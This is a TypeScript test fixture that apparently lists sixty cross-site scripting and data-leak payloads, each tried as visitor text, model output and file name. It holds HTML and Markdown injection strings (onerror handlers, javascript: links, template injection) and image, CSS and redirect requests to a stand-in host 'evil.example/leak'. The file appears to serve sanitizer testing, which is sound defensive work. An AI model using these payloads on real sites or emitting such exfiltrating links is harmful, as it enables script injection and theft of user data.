// Sixty ways of getting a script run or a request out, each tried as visitor text, as model output
// and (where it can be a name) as a file name. `EVIL` stands for a host that must never be asked.

export const evilHost = 'evil.example';
const evil = `https://${evilHost}/leak?d=secret`;
const run = 'window.__pwned=1';

const html = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<body onload="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<input autofocus onfocus="${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<style>@import "${evil}";</style>`,
  `<link rel="stylesheet" href="${evil}">`,
  `<link rel="prefetch" href="${evil}">`,
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `<base href="${evil}">`,
  `<img src="${evil}">`,
  `<img srcset="${evil} 1x">`,
  `<picture><source srcset="${evil}"><img></picture>`,
  `<div style="background:url(${evil})">x</div>`,
  `<table background="${evil}"><tr><td>x</td></tr></table>`,
  `<video poster="${evil}"></video>`,
  `<svg><image href="${evil}"/></svg>`,
  `<svg><use href="${evil}#x"/></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<!--><script>${run}</script>-->`,
  `<template><script>${run}</script></template>`,
  `"><script>${run}</script>`,
  `';${run};//`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<xss style="animation-name:x" onanimationstart="${run}">`,
  `<marquee onstart="${run}">x</marquee>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\u003cscript\u003e${run}\u003c/script\u003e`,
];

const markdown = [
  `![x](${evil})`,
  `![x](<${evil}>)`,
  `[![x](${evil})](${evil})`,
  `![x][r]\n\n[r]: ${evil}`,
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java\tscript:${run})`,
  `[x](&#106;avascript:${run})`,
  `[x](data:text/html,<script>${run}</script>)`,
  `[x](vbscript:${run})`,
  `<javascript:${run}>`,
  `[x]: javascript:${run}\n\n[x]`,
  `[click](${evil})`,
  `${evil}`,
  `<${evil}>`,
  `[https://good.example](${evil})`,
  `[x](https://user:pass@${evilHost}/)`,
  `[x](//${evilHost}/leak)`,
  `| a |\n|---|\n| ![x](${evil}) |`,
  `> ![x](${evil} "title")\n\n- ![y](${evil})`,
];

export const payloads = [...html, ...markdown].map((text) => ({
  visitor: text,
  model: text,
  fileName: `${text.replace(/[\\/\n\t]/g, '_').slice(0, 120)}.csv`,
}));
